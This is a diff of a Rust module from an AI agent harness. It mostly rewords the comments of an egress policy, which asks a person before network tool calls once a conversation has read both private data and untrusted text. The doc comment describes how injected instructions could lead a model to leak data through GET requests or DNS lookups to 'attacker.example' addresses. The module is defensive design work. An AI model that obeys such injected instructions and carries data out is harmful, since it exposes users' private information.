@@ -1,5 +1,5 @@
-//! Holds data back: asks before anything goes out once a conversation has read what is private and
-//! what strangers wrote.
+//! Protects against data that is carried out: once a conversation has read private data and words that strangers
+//! wrote, a person is asked before anything goes out.
 
 use std::collections::HashMap;
 
@@ -17,15 +17,14 @@ use crate::{
 /// A policy against data that is carried out: once a conversation has read private data *and* words
 /// that strangers wrote, a person is asked before every call of a tool that declares `network`.
 ///
-/// Words of strangers can hold instructions, and a model may follow them. An open `GET` is enough to
-/// carry out all that the model has read: in the path or the query of the address
-/// (`https://attacker.example/?q=<the file>`), in the host's name (`<the file>.attacker.example`,
-/// which already leaves with the look-up of the name), or piece by piece over several calls. So
-/// `read` + `network` alone is allowed without a question, since a look-up of the program's own is
-/// what most such tools are; with this policy it is allowed only as long as one of the two is
-/// missing.
+/// Words of strangers can hold instructions, and a model may follow them. An ordinary `GET` is enough to carry out
+/// all that the model has read: in the path or the query of the address (`https://attacker.example/?q=<the file>`),
+/// in the host's name (`<the file>.attacker.example`, which is sent with the look-up of the name alone), or piece
+/// by piece over several calls. Without this policy a tool that declares `read` + `network` runs without a
+/// question, since most of these tools only look something up. With this policy it does so only as long as the
+/// conversation lacks private data or words of strangers.
 ///
-/// What counts follows from what a tool declares, unless the program says otherwise by its name:
+/// Whether a result counts follows from what its tool declares, unless the program decides for the tool's name:
 ///
 /// | declared | private data | words of strangers |
 /// |---|---|---|
@@ -34,7 +33,7 @@ use crate::{
 /// | `network`, `read` + `network` | no | yes |
 /// | `read` + `network`, with `write` or `mutate` | yes | yes |
 ///
-/// A file may hold a stranger's words, too: say `.untrusted("read_file")` where it may.
+/// A file may hold a stranger's words, too: add `.untrusted("read_file")` if it may.
 ///
 /// ```
 /// use harness::policy::{Egress, Permissions};
@@ -50,37 +49,37 @@ pub struct Egress {
 }
 
 impl Egress {
-    /// What this tool answers is private, whatever it declares.
+    /// Results of this tool are private, whatever the tool declares.
     #[must_use]
     pub fn private(mut self, tool: impl Into<String>) -> Self {
         self.private.insert(tool.into(), true);
         self
     }
 
-    /// What this tool answers may be known to everybody, whatever it declares.
+    /// Results of this tool are not private, whatever the tool declares.
     #[must_use]
     pub fn public(mut self, tool: impl Into<String>) -> Self {
         self.private.insert(tool.into(), false);
         self
     }
 
-    /// What this tool answers may be written by strangers, whatever it declares.
+    /// Results of this tool may hold words of strangers, whatever the tool declares.
     #[must_use]
     pub fn untrusted(mut self, tool: impl Into<String>) -> Self {
         self.untrusted.insert(tool.into(), true);
         self
     }
 
-    /// What this tool answers holds no words of strangers, whatever it declares.
+    /// Results of this tool hold no words of strangers, whatever the tool declares.
     #[must_use]
     pub fn trusted(mut self, tool: impl Into<String>) -> Self {
         self.untrusted.insert(tool.into(), false);
         self
     }
 
-    /// Why a person is asked about a call of a tool with these effects, if one is.
+    /// The reason to ask a person about a call of a tool with these effects, if there is one.
     pub(super) fn asks(&self, effects: SideEffects, exposure: Exposure) -> Option<&'static str> {
-        // An effect that is declared in a later version may carry data out, too.
+        // A side effect that a later version declares may carry data out, too.
         let stays = effects.is_within(&[Read, Write, Mutate]);
         (!stays && exposure.private && exposure.untrusted).then_some(
             "this conversation has read private data and words that strangers wrote, and the call \
@@ -106,7 +105,7 @@ impl Egress {
 pub struct Exposure {
     /// Data that not everybody may see.
     pub private: bool,
-    /// Words that somebody else than the program and its user wrote.
+    /// Words that were written by somebody other than the program and its user.
     pub untrusted: bool,
 }
 
@@ -117,18 +116,18 @@ impl Exposure {
     }
 }
 
-/// What a conversation has read: a fold of its facts.
+/// What a conversation has read, derived from its facts.
 #[derive(Clone, Debug, Default)]
 pub(crate) struct Exposed {
     exposure: Exposure,
-    /// Names of the calls of the last answer.
+    /// The tool names of the last answer's calls, by call id.
     names: HashMap<String, String>,
-    /// Those that were allowed, with their effects.
+    /// The side effects of the allowed calls, by call id.
     allowed: HashMap<String, SideEffects>,
 }
 
 impl Exposed {
-    /// A conversation goes on from another one that has read this.
+    /// Starts a conversation that continues another one, which has read this.
     pub(crate) fn of(exposure: Exposure) -> Self {
         Self { exposure, ..Self::default() }
     }
@@ -137,18 +136,18 @@ impl Exposed {
         self.exposure
     }
 
-    /// Takes a call of which only its tool is known.
+    /// Adds a call of which only the tool is known.
     pub(crate) fn add(&mut self, egress: &Egress, tool: &str, effects: SideEffects) {
         self.exposure.add(egress.exposure(tool, effects));
     }
 
-    /// Takes a fact. A call counts as soon as it has started, since even one that is stopped tells
-    /// the model what it has put out until then.
+    /// Applies a fact. A call counts as soon as it has started, since even a call that is stopped tells the model
+    /// its output so far.
     pub(crate) fn apply(&mut self, egress: &Egress, entry: &Entry) {
         match entry {
             Entry::Given { transcript } => {
                 for call in transcript.messages().iter().flat_map(Message::calls) {
-                    // What its tool declared then is not known, so the worst is assumed.
+                    // It is not known what the tool declared then, so the worst is assumed.
                     self.add(egress, call.name(), SideEffects::ALL);
                 }
             }
